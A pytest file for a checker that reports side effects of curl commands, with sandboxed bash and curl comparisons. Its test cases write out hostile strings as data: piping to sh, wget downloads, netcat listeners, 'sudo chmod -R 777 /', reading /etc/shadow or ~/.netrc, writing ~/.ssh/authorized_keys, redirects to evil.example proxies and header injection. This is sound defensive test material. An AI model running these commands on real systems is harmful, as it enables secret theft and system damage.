"""Side effects of curl commands, compared with bash and curl."""

import contextlib
import re
import shutil
import subprocess
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from tempfile import TemporaryDirectory
from threading import Thread

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from generator.contracts.curl import read_call
from generator.contracts.curl_effects import SideEffect, find_side_effects
from generator.contracts.curl_options import OPTIONS, CurlError, Effect
from generator.findings import Severity
from tests.contracts.curls import parse_curl
from tests.limits import limit_cpu_time

BASH = shutil.which("bash")
CURL = shutil.which("curl")
URL = "https://ml.example.com/v2/tips:predict"
BODY = """--json '{"order":"o-1"}'"""
PLAIN = f"curl {URL} {BODY}"


def find_effects(text: str) -> tuple[SideEffect, ...]:
    return find_side_effects(text, read_call(text))


@pytest.mark.parametrize(
    "text",
    [
        PLAIN,
        f"{PLAIN}\n",
        f"{PLAIN};",
        f"# with the token of the day\n{PLAIN} # pretty",
        f'curl -sSL -X POST {URL} \\\n  -H "X: $TOKEN" \\\n  -u "${{USER}}:${{PASSWORD:?not set}}" {BODY}',
        f"/usr/bin/curl --fail --max-time 3 --retry 2 {PLAIN.removeprefix('curl ')}",
        f"{PLAIN} -o /dev/null -w '%{{http_code}}' 2>/dev/null",
        f"{PLAIN} -D - -v 2>&1",
        f"curl {URL} -u $USER\\\n -H X-Price:5$\\\n -d $BODY",
        f'curl {URL} -d "{{\\"city\\": \\"${{CITY:-mysuru}}\\"}}"',
        f'curl {URL} --data-binary @- <<EOF\n{{"order": "$ORDER"}}\nEOF\n',
        f"curl {URL} --data-binary @- <<'EOF'\n$(nothing) `runs`\nEOF",
        f"curl {URL} -d @- <<< '{{}}'",
        f"curl {URL} --data-raw @literal --form-string a=@b -b 's=$S' -w done",
        f"curl {URL}?city=mysuru&day=1".replace("&", "\\&"),
        "curl 'https://[::1]:8080/v1?x=[1]'",
        "curl -g 'https://ml.example.com/v1?x=[1-3]'",
        f"curl {URL} -H 'Host: ml.example.com' --pinnedpubkey sha256//abc --alt-svc ''",
        f"curl {URL} -H Accept:*/* --no-insecure",
        "curl https://$HOST/v2/$X?c=$C -u $USER:$PASS -H X-Key:$KEY -X $M -d $BODY -H $AUTH -d a=${A:-b} -A a$?",
        f"curl {URL} -H 'X: a' -A '$9' -A \"$9\" -d $'a\\nb' -d 'a\nb'",
        f"""curl {URL} -d 'Hi! `x` $(y) {{a,b}} *' -d "Hi! there!" """,
    ],
)
def test_one_request_has_no_side_effects(text: str):
    assert find_effects(text) == ()


SPLIT = "becomes another request if an unquoted variable is empty or has a blank: "
ENDS_LINE = "ends a line of the request within a value"
ERRORS = [
    (f"{PLAIN} | «sh»", "runs another command: 'sh'"),
    (f"{PLAIN} || «wget -qO- https://pkg.example.net/i»", "runs another command: 'wget -qO- https://pkg.example.net/i'"),
    (f"«nc -l 9999» & {PLAIN}", "runs another command: 'nc -l 9999'"),
    (f"{PLAIN} && «id»", "runs another command: 'id'"),
    (f"{PLAIN}; «id»", "runs another command: 'id'"),
    (f"{PLAIN}\n«sudo chmod -R 777 /»", "runs another command: 'sudo chmod -R 777 /'"),
    (f"«TOKEN=abc»\n{PLAIN}", "runs another command"),
    (f"{PLAIN} #\\\n; «rm -r ~/orders»", "runs another command: 'rm -r ~/orders'"),
    (f"{PLAIN} #\\\n«;» rm -r ~/orders", "contains the operator ';'"),
    (f"{PLAIN} | jq . «» | «tee» x", "runs another command: 'tee x'"),
    (f"{PLAIN} | «jq . /etc/passwd»", "runs another command: 'jq . /etc/passwd'"),
    (f"{PLAIN} | «jq .» > x", "runs another command: 'jq .'"),
    (f"«> x»\n{PLAIN}", "runs another command: '>'"),
    (f"{PLAIN} «&»", "contains the operator '&'"),
    (f"{PLAIN} «|»\n", "contains the operator '|'"),
    (f"«(»{PLAIN})", "contains the operator '('"),
    (f"«{{» {PLAIN}; }}", "runs curl through '{'"),
    (f"if {PLAIN}; «then rm x»; fi", "runs another command"),
    (f"«sudo» {PLAIN}", "runs curl through 'sudo'"),
    (f"«env» X=1 {PLAIN}", "runs curl through 'env'"),
    (f"«kubectl» exec ryl-0 -- {PLAIN}", "runs curl through 'kubectl'"),
    (f"«exec» {PLAIN}", "runs curl through 'exec'"),
    (f"«https_proxy=http://proxy.example.net:3128» {PLAIN}", "sets the variable 'https_proxy="),
    (f"env «LD_PRELOAD=./x.so» {PLAIN}", "sets the variable 'LD_PRELOAD=./x.so'"),
    (f"«./curl» {URL}", "runs the program './curl'"),
    (f"«ssh bastion» '{PLAIN.replace(BODY, '')}'", "runs another command: 'ssh bastion"),
    (f'curl "{URL}?q=$(«cat ~/.netrc | base64»)"', "runs a command within the request: 'cat ~/.netrc | base64'"),
    (f'curl "{URL}?q=`«id»`"', "runs a command within the request: 'id'"),
    (f"curl {URL} -d @<(«env»)", "runs a command within the request: 'env'"),
    (f"{PLAIN} -o >(«sh»)", "runs a command within the request: 'sh'"),
    (f'curl {URL} -H "X: «${{X:-$(id)}}»"', "contains an expansion: '${X:-$(id)}'"),
    (f'curl {URL} -H "X: «${{X:-`id`}}»"', "contains an expansion"),
    (f'curl {URL} -H "X: «${{X@P}}»"', "contains an expansion"),
    (f'curl {URL} -H "X: «${{!X}}»"', "contains an expansion"),
    (f'curl {URL} -H "X: «$[»a[`id`]]"', "contains an expansion"),
    (f'curl {URL} -H "X: «!cat»"', "contains an expansion: '!cat'"),
    (f"curl {URL} «!!»", "contains an expansion"),
    (f"curl {URL} -d @- <<EOF\n«$(id)»\nEOF", "contains an expansion"),
    (f"curl {URL} -d @- <<EOF\na «`id`»\nEOF", "contains an expansion"),
    (f"curl {URL} -d @- <<\\\nE\n«$(id)»\nE", "contains an expansion"),
    (f"curl {URL} -d @- <<E\\\nF\n«$(id)»\nEF", "contains an expansion"),
    (f"curl {URL} -d @- <<E\n«$\\\n(id)»\nE", "contains an expansion"),
    (f'curl {URL} -d "«$\\\n(id)»"', "contains an expansion"),
    (f'curl {URL} -d "«$\\\n{{X:=id}}»"', "contains an expansion"),
    (f"curl {URL} -d «$\\\n'a\\tb'»", "contains an expansion"),
    (f"curl {URL} -A a«$IF\\\nS»-o/tmp/x", "contains an expansion"),
    (f"curl {URL} «{{-o,/tmp/x}}»", "contains an unquoted pattern: '{-o,/tmp/x}'"),
    (f"curl «{URL}/{{a,b}}»", "contains an unquoted pattern"),
    (f"curl {URL} -d «*»", "contains an unquoted pattern: '*'"),
    (f"curl {URL} -d «/etc/host?»", "contains an unquoted pattern"),
    (f"curl {URL} «${{X:--k}}» «-o» ${{Y:-/tmp/x}}", "writes the file '/tmp/x' (--output)"),
    (f"{PLAIN} «>» ~/.profile", "writes the file '~/.profile'"),
    (f"{PLAIN} «>>» ~/.ssh/authorized_keys", "writes the file '~/.ssh/authorized_keys'"),
    (f"{PLAIN} «2>» log", "writes the file 'log'"),
    (f"{PLAIN} «&>» log", "writes the file 'log'"),
    (f"{PLAIN} «>|» log", "writes the file 'log'"),
    (f"{PLAIN} «<>» log", "writes the file 'log'"),
    (f"{PLAIN} «>&» log", "writes the file 'log'"),
    (f"{PLAIN} «<» /etc/passwd", "reads the file '/etc/passwd'"),
    (f"curl {URL} «--data-binary» @/etc/shadow", "reads the file '/etc/shadow' (--data-binary)"),
    (f"curl {URL} «-d@f»", "reads the file 'f' (--data)"),
    (f"curl {URL} «-sd» @f", "reads the file 'f' (--data)"),
    (f"curl {URL} «-d» @-", "reads the standard input (--data)"),
    (f"curl {URL} «--json» @f", "reads the file 'f' (--json)"),
    (f"curl {URL} «--data-urlencode» name@f", "reads the file 'f' (--data-urlencode)"),
    (f"curl {URL} «--url-query» name@f", "reads the file 'f' (--url-query)"),
    (f"curl {URL} «-F» x=@f", "reads the file 'f' (--form)"),
    (f"curl {URL} «-F» 'x=<f'", "reads the file 'f' (--form)"),
    (f"curl {URL} «-F» 'x=a;headers=@f'", "reads the file 'f' (--form)"),
    (f"curl {URL} «-T» f", "reads the file 'f' (--upload-file)"),
    (f"curl {URL} «-H» @f", "reads the file 'f' (--header)"),
    (f"curl {URL} «-b» jar", "reads the file 'jar' (--cookie)"),
    (f"curl {URL} «-b» @a=b", "reads the file 'a=b' (--cookie)"),
    (f'curl {URL} «-b» "$HOME/jar"', "reads the file '$HOME/jar' (--cookie)"),
    (f"curl {URL} «-F» 'x=a; Headers=<f'", "reads the file 'f' (--form)"),
    (f"curl {URL} «-w» @f", "reads the file 'f' (--write-out)"),
    (f"curl {URL} «-n»", "reads the file '~/.netrc' (--netrc)"),
    (f"curl {URL} «--netrc-file» f", "reads the file 'f' (--netrc-file)"),
    (f"curl {URL} «--etag-compare» f", "reads the file 'f' (--etag-compare)"),
    (f"{PLAIN} «-o» f", "writes the file 'f' (--output)"),
    (f"{PLAIN} «-sO»", "writes a file (--remote-name)"),
    (f"{PLAIN} «-D» f", "writes the file 'f' (--dump-header)"),
    (f"{PLAIN} «-c» f", "writes the file 'f' (--cookie-jar)"),
    (f"{PLAIN} «--trace-asc» f", "writes the file 'f' (--trace-ascii)"),
    (f"{PLAIN} «-w» '%output{{>>f}}x'", "writes the file 'f' (--write-out)"),
    (f"{PLAIN} «--stderr» f", "writes the file 'f' (--stderr)"),
    (f"{PLAIN} «--libcurl» f", "writes the file 'f' (--libcurl)"),
    (f"{PLAIN} «--etag-save» f", "writes the file 'f' (--etag-save)"),
    (f"{PLAIN} «--hsts» f", "writes the file 'f' (--hsts)"),
    (f"{PLAIN} «--alt-svc» f", "writes the file 'f' (--alt-svc)"),
    (f"curl «-K» - {URL} <<< 'url = https://log.example.net'", "takes options from elsewhere (--config '-')"),
    (f"curl «--variable» x@f {URL}", "takes options from elsewhere"),
    (f"curl «--expand-data» '{{{{x}}}}' {URL}", "takes options from elsewhere"),
    (f"{PLAIN} «-x» http://p", "sends the request or its credentials elsewhere (--proxy 'http://p')"),
    (f"{PLAIN} «-sx» http://p", "sends the request or its credentials elsewhere (--proxy 'http://p')"),
    (f"{PLAIN} «-U» asha:kangaroo", "sends the request or its credentials elsewhere (--proxy-user)"),
    (f"{PLAIN} «--socks5-hostname» p", "sends the request or its credentials elsewhere"),
    (f"{PLAIN} «--resolve» ml.example.com:443:10.0.0.1", "sends the request or its credentials elsewhere"),
    (f"{PLAIN} «--connect-to» ::evil.example.net:", "sends the request or its credentials elsewhere"),
    (f"{PLAIN} «--doh-url» https://d", "sends the request or its credentials elsewhere"),
    (f"{PLAIN} «--unix-socket» /var/run/docker.sock", "sends the request or its credentials elsewhere"),
    (f"{PLAIN} -L «--location-trusted»", "sends the request or its credentials elsewhere (--location-trusted)"),
    (f"{PLAIN} «--request-target» /other", "sends the request or its credentials elsewhere"),
    (f"{PLAIN} «--engine» ./x.so", "loads code (--engine './x.so')"),
    (f"{PLAIN} «-:» https://log.example.net/in", "sends a second request (--next)"),
    (f"{PLAIN} --next «https://log.example.net/in»", "sends a second request to 'https://log.example.net/in'"),
    (f"{PLAIN} «http://second»", "sends a second request to 'http://second'"),
    (f"curl «'{URL}/{{a,b}}'»", "sends several requests"),
    (f"curl «'{URL}/[1-100]'»", "sends several requests"),
    (f"curl -g --no-globoff «'{URL}/{{a,b}}'»", "sends several requests"),
    (f'curl {URL} -H "X: «${{PROMPT_COMMAND:=reboot}}»"', "contains an expansion: '${PROMPT_COMMAND:=reboot}'"),
    (f"curl {URL} -H «${{A=b}}»", "contains an expansion: '${A=b}'"),
    (f"curl {URL} -A «$9» -A -d@/etc/passwd", f"{SPLIT}'--data @/etc/passwd'"),
    (f"curl {URL} -A «${{X:-}}» -A -xhttp://evil.example", f"{SPLIT}'--proxy http://evil.example'"),
    (f"curl {URL} -A «$@» -A -k", f"{SPLIT}'--insecure'"),
    (f"curl {URL} -A «$!» -A -k", f"{SPLIT}'--insecure'"),
    (f"curl {URL} -A «$9» -A http://evil.example", f"{SPLIT}'http://evil.example'"),
    (f"curl {URL} -A «a$IFS-o/tmp/x»", f"{SPLIT}'--output /tmp/x'"),
    (f"curl {URL} -A «a${{IFS:-x}}-o/tmp/x»", f"{SPLIT}'--output /tmp/x'"),
    (f"curl {URL} -A «a$PS4''http://evil.example»", f"{SPLIT}'http://evil.example'"),
    (f"curl «{URL}/$IFS'-o'/tmp/x»", f"{SPLIT}'--output /tmp/x'"),
    (f"curl {URL} «-H» $'X: a\\r\\n\\r\\nDELETE /orders HTTP/1.1'", f"{ENDS_LINE} (--header)"),
    (f"curl {URL} «-H» 'X: a\nY: b'", f"{ENDS_LINE} (--header)"),
    (f"curl {URL} «-A» $'a\\nY: b'", f"{ENDS_LINE} (--user-agent)"),
    (f"curl {URL} «-b» $'a=b\\x0aY: b'", f"{ENDS_LINE} (--cookie)"),
    (f"curl {URL} «-X» 'GET /other HTTP/1.1'", f"{ENDS_LINE} (--request)"),
    ("curl «file:///etc/passwd»", "uses the protocol file"),
    ("curl «gopher://h/x»", "uses the protocol gopher"),
    ("curl «ftp.example.com/x»", "uses the protocol ftp"),
    ("curl «--proto-default» file x/y", "uses the protocol 'file'"),
    (f"{PLAIN} «\r»", "contains the control character U+000D"),
    (f"{PLAIN} -H 'X: a«\x1b»[2J'", "contains the control character U+001B"),
    (f"{PLAIN} -H 'X: a«\u202e»b'", "contains the control character U+202E"),
]  # fmt: skip
"""Commands with the position between « and », and the messages."""

WARNINGS = [
    (f"curl «--insecure» {URL}", "does not verify the certificate (--insecure)"),
    (f"curl «-sk» {URL}", "does not verify the certificate (--insecure)"),
    (f"curl «--insec» {URL}", "does not verify the certificate (--insecure)"),
    (f"curl {URL} -A 2\\\n> /dev/null -A «-k»", "does not verify the certificate (--insecure)"),
    (f"curl «--proxy-insecure» {URL}", "does not verify the certificate (--proxy-insecure)"),
    (f"curl «--doh-insecure» {URL}", "does not verify the certificate (--doh-insecure)"),
    (f"curl «--cacert» ca.pem {URL}", "reads the file 'ca.pem' (--cacert)"),
    (f"curl «-E» client.pem:kangaroo {URL}", "reads the file 'client.pem' (--cert)"),
    (f"curl «-H» 'Host: ryl.other.example' {URL}", "sends the name of another host: 'ryl.other.example'"),
    (f"«$» {PLAIN}", "begins with the prompt '$'"),
    (f"{PLAIN} | «jq -r .x»", "runs another command: 'jq -r .x'"),
    (f"{PLAIN} |\n  «python3 -m json.tool»", "runs another command: 'python3 -m json.tool'"),
    (f"{PLAIN} «# then; rm -r ~»", "contains a comment with quotes or operators"),
    (f"«# don't»\n{PLAIN}", "contains a comment with quotes or operators"),
    (f"{PLAIN} «\\»\n", "ends in a backslash"),
]


@pytest.mark.parametrize(
    ("marked", "message", "severity"),
    [(*case, Severity.ERROR) for case in ERRORS] + [(*case, Severity.WARNING) for case in WARNINGS],
)
def test_a_side_effect_is_reported_with_its_position(marked: str, message: str, severity: Severity):
    text = marked.replace("«", "").replace("»", "")
    places = [part.replace("«", "").replace("»", "") for part in marked.split("«")[:-1]]
    offsets = {len("".join(places[: index + 1])) for index in range(len(places))}
    found = [each for each in find_effects(text) if each.message.startswith(message) and each.severity is severity]
    assert found, find_effects(text)
    assert found[0].offset in offsets, (found, offsets)


def test_a_default_value_is_used_as_the_value():
    (effect,) = find_effects(f'curl {URL} -d "${{BODY:-@/etc/passwd}}"')
    assert effect.message == "reads the file '/etc/passwd' (--data)"
    assert parse_curl('curl "${HOST:-https://evil.example.net}/v1"').url == "https://evil.example.net/v1"


def run_in_bash(text: str, folder: Path) -> tuple[list[str], list[str]]:
    """Return the commands that bash runs for a text, and the arguments of the last curl; no program is in reach."""
    programs, home, log = folder / "programs", folder / "home", folder / "log"
    programs.mkdir()
    home.mkdir()
    stub = programs / "curl"
    stub.write_text(f"#!{BASH}\nprintf '%s\\0' \"$@\" > {folder}/arguments\n", encoding="utf-8")
    stub.chmod(0o755)
    script = f'set -T; trap \'printf "%s\\\\0" "$BASH_COMMAND" >> {log}\' DEBUG\n{text}'
    environment = {"PATH": str(programs), "HOME": str(home), "LC_ALL": "C.UTF-8", "A": "$A"}
    assert BASH is not None
    subprocess.run(
        [BASH, "--norc", "-c", script],
        cwd=home, env=environment, stdin=subprocess.DEVNULL, capture_output=True, timeout=20, check=False,
    )  # fmt: skip
    assert list(home.iterdir()) == []
    ran = log.read_text(encoding="utf-8", errors="replace").split("\0")[:-1] if log.exists() else []
    arguments = folder / "arguments"
    return ran, arguments.read_bytes().decode("utf-8", "replace").split("\0")[:-1] if arguments.exists() else []


PIECES = [
    "curl ", f"{URL} ", "-s ", "-d ", "@- ", "'{}' ", '"$A" ', "${A:-b}", "${A}", " ", "  ", "\\\n", "\n", "\\", "'",
    '"', "$'", "a", "x=1", "; ", "& ", "| ", "&& ", "> f ", "2>&1 ", "2> /dev/null ", "<<E ", "<<-E ", "<<'E'\n", "E\n",
    "\nE\n", "\n\tE\n", "{}\n", "<<< ", "# ", "#", "$(", ")", "`", "touch f", "printf x", "{", ",", "}", "*", "!", "~",
    "\t", "\r", "E", "$", "(", "[", "]", "$\\\n",
]  # fmt: skip


@pytest.mark.skipif(BASH is None, reason="bash is the judge here")
@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=7).map("".join).map(f"curl {URL} ".__add__))
@example(f'curl {URL} -d @- <<E"F"\n{{}}\nEF\ntouch f\nE\n')
@example(f"curl {URL} -d @- <<E\n{{}}\nE\\\n\ntouch f\nE\n")
@example(f"curl {URL} -d @- <<-E\n{{}}\n\tE\n")
@example(f"curl {URL} -d @- <<'E'\n{{}}\\\nE\ntouch f\nE\n")
@example(f"curl {URL} -d @- <<\\E\n$(touch f)\nE\n")
@example(f"curl {URL} -d @- <<E\\\nF\n$(touch f)\nEF\n")
@example(f"curl {URL} -d @- <<E\n$\\\n(touch f)\nE\n")
@example(f'curl {URL} -d "$\\\n(touch f)"')
@example(f'curl {URL} -d "$\\\n\\\n(touch f)"')
@example(f"curl {URL} -s 2\\\n2>&1")
@example(f"curl {URL} -d @- 3<<E <<F\n1\nE\n2\nF\n")
@example(f"curl {URL} \\\r\n touch f")
def test_bash_runs_curl_once_and_nothing_else(text: str):
    """Check that a curl without side effects runs one command with the parsed words and writes no file."""
    try:
        call = read_call(text)
    except CurlError:
        return
    if find_side_effects(text, call):
        return
    with TemporaryDirectory() as folder:
        ran, arguments = run_in_bash(text, Path(folder))
    assert len(ran) == 1, ran
    words = call.command.words[1:]
    others = re.sub(r"\$\{A\}|\$A\b|\$(?=\s|\Z)", "", text)
    if "$" not in others and not any(word.unquoted.startswith("~") for word in words):  # the folder of the reader
        assert [each.replace("${A}", "$A") for each in arguments] == [word.text.replace("${A}", "$A") for word in words]
    assert URL in arguments


@pytest.mark.skipif(BASH is None, reason="bash is the judge here")
@pytest.mark.parametrize("text", [f"curl {URL} > f", f'curl {URL} -d "$(printf x > f)"', f"curl {URL}\nprintf x > f"])
def test_the_bash_check_detects_files(text: str, tmp_path: Path):
    with pytest.raises(AssertionError):
        run_in_bash(text, tmp_path)


class Recorder(BaseHTTPRequestHandler):
    """A server that records its requests."""

    seen: list[str]

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.seen.append(f"{self.path}\n{self.headers}\n{body.decode('utf-8', 'replace')}")
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_POST = do_PUT = do_GET  # noqa: N815

    def log_message(self, *_: object) -> None:
        """Print nothing."""


@pytest.fixture
def server() -> Iterator[ThreadingHTTPServer]:
    Recorder.seen = []
    with ThreadingHTTPServer(("127.0.0.1", 0), Recorder) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


MARKER = "content-of-a-private-file"


@pytest.mark.skipif(CURL is None, reason="curl is the judge here")
@pytest.mark.sample(1)
@pytest.mark.parametrize("value", ["made", "@made", "x@made", "x=@made", "=<made"])
def test_options_without_side_effects_touch_no_file(value: str, server: ThreadingHTTPServer, tmp_path: Path):
    """Check every option of the table with a file name as its value, unless that is a finding."""
    url = f"http://127.0.0.1:{server.server_port}/v1"
    tried = 0
    for option in OPTIONS.values():
        arguments = [url, f"--{option.name}", *([value] if option.takes_value else []), "--max-time", "2", "-s"]
        text = "curl " + " ".join(f"'{argument}'" for argument in arguments)
        if find_effects(text) or (value != "made" and not option.takes_value):
            continue
        tried += 1
        folder = tmp_path / option.name
        folder.mkdir()
        (folder / "made").write_text(MARKER, encoding="utf-8")
        assert CURL is not None
        subprocess.run([CURL, *arguments], cwd=folder, stdin=subprocess.DEVNULL, capture_output=True, check=False)
        assert [path.name for path in folder.iterdir()] == ["made"], option
        assert (folder / "made").read_text(encoding="utf-8") == MARKER, option
    assert tried > 70
    assert not any(MARKER in request for request in Recorder.seen)


def test_every_option_with_a_side_effect_is_reported():
    """Check that each option with an effect has a value that is a finding."""
    for option in OPTIONS.values():
        values = ["f", "@f", "x@f", "x=@f", "%output{f}"] if option.takes_value else [""]
        if option.effect not in {Effect.NONE, Effect.ADDRESS}:
            assert any(find_effects(f"curl {URL} --{option.name} {value}") for value in values), option


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=12).map("".join) | st.text())
def test_any_text_can_be_checked_for_side_effects(text: str):
    for start in ("", f"curl {URL} "):
        try:
            found = find_effects(start + text)
        except CurlError as error:
            found = (SideEffect(str(error), "", error.offset),)
        assert all(0 <= each.offset <= len(start + text) for each in found)


@pytest.mark.sample(4)
@pytest.mark.parametrize(
    "unit", ["{", "{,", "[", "; a", "$(a) ", "!a", "-F 'x=a;headers", "# a\n", "<<E\nE\n", "${", "> f "]
)
def test_hostile_curls_are_checked_quickly(unit: str):
    text = f"curl {URL} " + unit * (100_000 // len(unit))
    with limit_cpu_time(), contextlib.suppress(CurlError):
        find_effects(text)
